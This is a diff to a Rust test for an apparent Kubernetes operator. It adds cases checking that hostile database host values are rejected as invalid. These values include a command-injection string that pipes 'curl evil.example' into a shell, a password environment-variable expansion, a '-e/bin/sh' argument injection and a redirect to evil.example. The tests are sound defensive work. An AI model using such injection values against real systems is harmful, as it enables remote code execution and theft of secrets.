@@ -26,6 +26,12 @@ fn nemo_b05_a_missing_database_secret_is_told() {
 fn nemo_b16_every_failure_has_a_state_a_reason_and_an_event() {
     let claim = |claim: Value| json!({"configStore": {"pvc": claim}});
     let with_database = json!({"databaseConfig": database()});
+    let on = |host: &str| {
+        let mut database = database();
+        database["host"] = json!(host);
+        json!({"databaseConfig": database})
+    };
+    let password = || found(&[(Thing::Secret, "pg", &[("password", "word")])]);
     let other_key = found(&[(Thing::Secret, "pg", &[("other", "x")])]);
     for (patch, here, reason, words) in [
         (with_database.clone(), Found::default(), "SecretNotFound", "Secret pg"),
@@ -38,6 +44,16 @@ fn nemo_b16_every_failure_has_a_state_a_reason_and_an_event() {
             "spec.configStore.pvc.size is empty",
         ),
         (json!({"scale": {"enabled": true}}), Found::default(), "HPAFailed", "spec.scale.hpa.maxReplicas"),
+        (
+            on("pg; curl evil.example | sh #"),
+            password(),
+            "InvalidSpec",
+            "spec.databaseConfig.host is \"pg; curl",
+        ),
+        (on("$(POSTGRES_DB_PASSWORD)"), password(), "InvalidSpec", "spec.databaseConfig.host"),
+        (on("-e/bin/sh"), password(), "InvalidSpec", "neither a DNS name nor an IP address"),
+        (on("pg/other?host=evil.example"), password(), "InvalidSpec", "spec.databaseConfig.host"),
+        (on("pg\n"), password(), "InvalidSpec", "spec.databaseConfig.host"),
     ] {
         let report = told(&guardrail(&patch), &here, &Outcome::default());
         let (is_ready, why, message) = ready(&report);
